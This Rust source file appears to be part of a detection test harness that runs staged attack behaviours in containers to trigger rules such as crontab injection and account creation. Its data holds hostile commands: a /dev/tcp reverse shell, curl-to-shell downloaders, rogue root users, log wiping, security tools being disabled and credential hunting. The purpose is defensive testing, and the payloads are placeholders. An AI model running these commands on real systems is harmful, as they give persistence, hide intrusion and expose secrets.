//! Suspicious commands on Linux: accounts, crontabs, sequences, injections, and single commands.

use super::servers::Service;
use super::stage::Stage;
use super::{KeyNeeds, KeyRehearsal, RehearsalError, run, shell};

const ACCOUNT: &str = "proc.linux_account_creation";
const CRONTAB: &str = "proc.crontab_injection";
const SEQUENCE: &str = "proc.linux_command_sequence";
const COMMAND_KEY: &str = "proc.linux_command";
const INJECTION: &str = "proc.script_injection";
const SUSPICIOUS: &str = "proc.suspicious_command";

pub(super) const ACCOUNT_CREATION: &[KeyRehearsal] = &[
    shell(
        ACCOUNT,
        "account-useradd-root",
        "useradd makes a second root",
        KeyNeeds::NOTHING,
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate",
    ),
    shell(
        ACCOUNT,
        "account-adduser",
        "adduser makes a user",
        KeyNeeds::NOTHING,
        "adduser --disabled-password --gecos '' helper",
    ),
    shell(
        ACCOUNT,
        "account-usermod-sudo",
        "usermod gives a user administrator's rights",
        KeyNeeds::NOTHING,
        "usermod -aG sudo www-data",
    ),
    shell(
        ACCOUNT,
        "account-passwd-write",
        "a second root is written into the password file",
        KeyNeeds::NOTHING,
        "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd",
    ),
    shell(
        ACCOUNT,
        "account-shadow-write",
        "a password is written into the shadow file",
        KeyNeeds::NOTHING,
        "echo 'toor:*:19000:0:99999:7:::' >> /etc/shadow",
    ),
    shell(
        ACCOUNT,
        "account-sudoers-write",
        "administrator's rights are written into sudoers",
        KeyNeeds::NOTHING,
        "echo 'www-data ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/www",
    ),
];

pub(super) const CRONTAB_INJECTION: &[KeyRehearsal] = &[
    shell(
        CRONTAB,
        "crontab-stdin",
        "a downloader is given to crontab",
        KeyNeeds::BUSYBOX,
        "echo '* * * * * curl -fsSL http://203.0.113.7/i.sh | sh' | crontab -",
    ),
    shell(
        CRONTAB,
        "crontab-spool-write",
        "a reverse shell is written into root's crontab",
        KeyNeeds::NOTHING,
        "echo \"* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\" >> /var/spool/cron/crontabs/root",
    ),
    shell(
        CRONTAB,
        "crontab-cron-d",
        "an encoded script is written into cron's folder",
        KeyNeeds::NOTHING,
        "echo '*/5 * * * * root echo dHJ1ZQ== | base64 -d | sh' > /etc/cron.d/sysstat",
    ),
    shell(
        CRONTAB,
        "crontab-etc",
        "a downloader is written into the system's crontab",
        KeyNeeds::NOTHING,
        "echo '*/10 * * * * root wget -q -O - http://203.0.113.7/a.sh | bash' >> /etc/crontab",
    ),
];

pub(super) const COMMAND_SEQUENCE: &[KeyRehearsal] = &[
    shell(
        SEQUENCE,
        "sequence-discovery",
        "a burst of questions about the machine",
        KeyNeeds::BUSYBOX,
        "id; whoami; uname -a; hostname; cat /etc/passwd; cat /proc/version; ps; netstat -an; ifconfig; \
         ls /home; find / -maxdepth 2 -perm -4000; env; true",
    ),
    run(
        SEQUENCE,
        "sequence-download-run",
        "fetched, made executable, run, removed",
        KeyNeeds::NETWORK,
        download_and_run,
    ),
    shell(
        SEQUENCE,
        "sequence-stop-competitors",
        "other miners are stopped, then a program is run",
        KeyNeeds::BUSYBOX,
        "pkill -9 xmrig; pkill -9 -f kinsing; killall -9 kdevtmpfsi; rm -f /tmp/kdevtmpfsi; \
         cp /payload/drifted /tmp/dbused; chmod +x /tmp/dbused; /tmp/dbused",
    ),
    shell(
        SEQUENCE,
        "sequence-clear-tracks",
        "logs and history are cleared one after the other",
        KeyNeeds::BUSYBOX,
        "rm -f /root/.bash_history; echo > /var/log/wtmp; echo > /var/log/auth.log; \
         shred -u /var/log/auth.log; rm -rf /var/log/audit; ln -sf /dev/null /root/.bash_history",
    ),
];

pub(super) const COMMAND: &[KeyRehearsal] = &[
    run(
        COMMAND_KEY,
        "command-download-pipe",
        "a download goes straight into a shell",
        KeyNeeds::NETWORK,
        |stage| with_download(stage, "wget -q -O - http://203.0.113.7/i.sh | sh"),
    ),
    shell(
        COMMAND_KEY,
        "command-curl-pipe",
        "curl into bash",
        KeyNeeds::BASH,
        "curl -fsSL http://203.0.113.7/i.sh | bash",
    ),
    shell(
        COMMAND_KEY,
        "command-base64",
        "a decoded script goes straight into a shell",
        KeyNeeds::programs(&["base64"]),
        "echo dHJ1ZQ== | base64 -d | sh",
    ),
    shell(
        COMMAND_KEY,
        "command-chattr",
        "a file's protection against change is lifted",
        KeyNeeds::NOTHING,
        "chattr -i /etc/ld.so.preload; chattr -ia /var/spool/cron/crontabs/root",
    ),
    shell(
        COMMAND_KEY,
        "command-history",
        "the shell's history is wiped",
        KeyNeeds::NOTHING,
        "rm -f /root/.bash_history && ln -s /dev/null /root/.bash_history",
    ),
    shell(
        COMMAND_KEY,
        "command-firewall",
        "the firewall is emptied",
        KeyNeeds::NOTHING,
        "iptables -F; iptables -P INPUT ACCEPT; ufw disable; nft flush ruleset",
    ),
    shell(
        COMMAND_KEY,
        "command-security-tools",
        "security tools are stopped",
        KeyNeeds::NOTHING,
        "systemctl stop auditd; systemctl disable falco; setenforce 0; auditctl -e 0; pkill -9 aliyun-service",
    ),
    shell(
        COMMAND_KEY,
        "command-shm",
        "a program runs from shared memory",
        KeyNeeds::NOTHING,
        "cp /payload/drifted /dev/shm/x && /dev/shm/x",
    ),
    shell(
        COMMAND_KEY,
        "command-credentials",
        "keys and passwords are searched for",
        KeyNeeds::BUSYBOX,
        "find / -maxdepth 3 -name id_rsa; grep -rn password /etc/ssh /opt/app; cat /root/.aws/credentials /etc/shadow; true",
    ),
];

pub(super) const SCRIPT_INJECTION: &[KeyRehearsal] = &[
    shell(
        INJECTION,
        "injection-ptrace",
        "a program writes into another one by ptrace",
        KeyNeeds::NOTHING,
        "/usr/bin/rehearsal-act ptrace",
    ),
    shell(
        INJECTION,
        "injection-vm-write",
        "a program writes into another one by process_vm_writev",
        KeyNeeds::NOTHING,
        "/usr/bin/rehearsal-act vm-write",
    ),
    shell(
        INJECTION,
        "injection-proc-mem",
        "a program writes into another one through its memory file",
        KeyNeeds::NOTHING,
        "/usr/bin/rehearsal-act mem-write",
    ),
    shell(
        INJECTION,
        "injection-preload",
        "a program is started with a dropped library",
        KeyNeeds {
            programs: &["bash"],
            host_programs: &[],
        },
        "cp /payload/drifted.so /tmp/hook.so && LD_PRELOAD=/tmp/hook.so bash -c true",
    ),
    shell(
        INJECTION,
        "injection-bash-encoded",
        "bash is given an encoded script",
        KeyNeeds::programs(&["bash", "base64"]),
        "bash -c \"$(echo dHJ1ZQ== | base64 -d)\"; bash -c 'eval \"$(echo dHJ1ZQ==|base64 -d)\"'",
    ),
    shell(
        INJECTION,
        "injection-python-encoded",
        "python is given an encoded script",
        KeyNeeds::NOTHING,
        "python3 -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'",
    ),
    shell(
        INJECTION,
        "injection-perl-encoded",
        "perl is given an encoded script",
        KeyNeeds::NOTHING,
        "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
    ),
    shell(
        INJECTION,
        "injection-gdb",
        "a debugger is attached to another program",
        KeyNeeds::NOTHING,
        "gdb -p 1 -batch -ex 'call (int)system(\"id\")'",
    ),
];

pub(super) const SUSPICIOUS_COMMAND: &[KeyRehearsal] = &[
    shell(
        SUSPICIOUS,
        "suspicious-kubectl",
        "kubectl, never run before",
        KeyNeeds::NOTHING,
        "kubectl get secrets --all-namespaces",
    ),
    shell(
        SUSPICIOUS,
        "suspicious-runtime-tools",
        "tools of the host's container runtime",
        KeyNeeds::NOTHING,
        "crictl ps; ctr -n k8s.io containers ls",
    ),
    shell(
        SUSPICIOUS,
        "suspicious-nsenter",
        "nsenter into itself",
        KeyNeeds::programs(&["nsenter"]),
        "nsenter --help; true",
    ),
    shell(
        SUSPICIOUS,
        "suspicious-tcpdump",
        "traffic is recorded",
        KeyNeeds::NOTHING,
        "tcpdump -i any -w /tmp/c.pcap",
    ),
    shell(
        SUSPICIOUS,
        "suspicious-strace",
        "a program is traced",
        KeyNeeds::NOTHING,
        "strace -f -p 1",
    ),
    shell(
        SUSPICIOUS,
        "suspicious-package-manager",
        "packages are installed in a running container",
        KeyNeeds::NOTHING,
        "apt-get install -y netcat-openbsd; apk add nmap",
    ),
];

fn with_download(stage: &mut Stage, script: &str) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(80, Service::Http("id\nuname -a\n"))?;
    stage.act_shell(&container, script)
}

fn download_and_run(stage: &mut Stage) -> Result<(), RehearsalError> {
    let script = "wget -q -O /tmp/run http://203.0.113.7/run && chmod +x /tmp/run && /tmp/run && rm -f /tmp/run";
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(80, Service::Http("#!/bin/sh\ntrue\n"))?;
    stage.act_shell(&container, script)
}
